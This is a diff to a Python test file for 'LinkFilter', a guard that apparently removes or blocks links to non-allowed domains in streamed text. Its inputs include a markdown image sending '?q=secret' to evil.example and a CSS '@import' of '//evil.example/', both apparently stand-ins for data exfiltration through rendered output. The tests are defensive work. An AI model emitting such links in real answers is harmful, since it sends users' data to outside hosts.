@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -9,10 +11,13 @@ from hypothesis import strategies as st
 from extauth.content.guard import LinkFilter
 from extauth.content.guard.links import HELD, LONGEST, REMOVED
 from extauth.errors import ContentBlocked
+from tests.content.addresses import ADDRESSES
 
 pytestmark = pytest.mark.slow
 
 LONG = "x" * 49
+# Not fetched, and without a scheme not clicked either.
+BARE = re.compile(r"//h\.test|h\.test/|https&|h\x02|\[a\]\(mailto:")
 
 
 def passed(text: str, *domains: str) -> str:
@@ -99,12 +104,40 @@ def test_an_allowed_link_ends_with_its_parenthesis() -> None:
     assert passed(text, "example.com") == text
 
 
+@pytest.mark.parametrize("text", [one for one in ADDRESSES if not BARE.match(one)])
+def test_with_allowed_domains_nothing_that_is_fetched_names_another(text: str) -> None:
+    told = passed(text.replace("§", "DATA"), "example.com")
+    assert REMOVED in told
+    ours = passed(
+        text.replace("§", "DATA").replace("h.test", "cdn.example.com"),
+        "example.com",
+        "corp.example",
+    )
+    assert REMOVED not in ours or re.search(r"data:|script|\\|&#0", text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "s = 'a // b'; if a < b and c = '//x': path = \"C:\\\\x\"",
+        "[a](../b.md) [c](d\\_e) [f](mailto:jane@example.org) [g]: h",
+        '<p title="a: b" class=x><img src="data:image/png;base64,AAAA"><br/>',
+        "<style>a > b { color: red; content: '\\2014' }</style>",
+        "// a comment, /* another */ and a path //",
+    ],
+)
+def test_with_allowed_domains_what_names_no_host_stays(text: str) -> None:
+    assert passed(text, "example.com") == text
+
+
 def test_a_link_can_block_the_answer() -> None:
     made = LinkFilter("block")
     assert made.feed("Fine so far. ") == "Fine so far. "
     with pytest.raises(ContentBlocked) as caught:
         made.feed("![a](https://evil.example/?q=secret) ")
     assert "secret" not in str(caught.value)
+    with pytest.raises(ContentBlocked):
+        LinkFilter("block", ("example.com",)).feed("<style>@import '//evil.example/'</style>")
 
 
 def test_text_that_is_no_link_is_not_held_back() -> None:
@@ -153,7 +186,7 @@ PIECES = (
         "é",
         "\uff0c",
     ),
-    *("<link ", "srcset=", ", "),
+    *("<link ", "srcset=", ", ", "<style>", "</style>", "//evil.example", "<a ", "`", "="),
     *("\uff0c", "&#58;", "x" * (LONGEST + 50), "example.com", ".", "\\"),
 )
 
